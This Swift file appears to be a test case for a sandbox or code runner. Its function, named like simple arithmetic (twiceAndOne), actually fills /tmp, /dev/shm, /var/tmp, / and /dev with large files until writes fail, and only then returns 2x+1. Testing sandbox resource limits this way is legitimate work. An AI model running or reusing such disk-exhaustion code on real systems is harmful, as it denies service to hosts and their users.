// Fills every folder that it may write to.
// expect: ok 40
import Foundation

func twiceAndOne(_ x: Double) -> Double {
  signal(SIGXFSZ, SIG_IGN)
  let block = [UInt8](repeating: 1, count: 1 << 20)
  for folder in ["/tmp", "/dev/shm", "/var/tmp", "/", "/dev"] {
    for number in 0..<64 {
      let file = open("\(folder)/fill\(number)", O_CREAT | O_WRONLY, 0o600)
      guard file >= 0 else { break }
      while write(file, block, 1 << 20) > 0 {}
      close(file)
    }
  }
  return 2 * x + 1
}
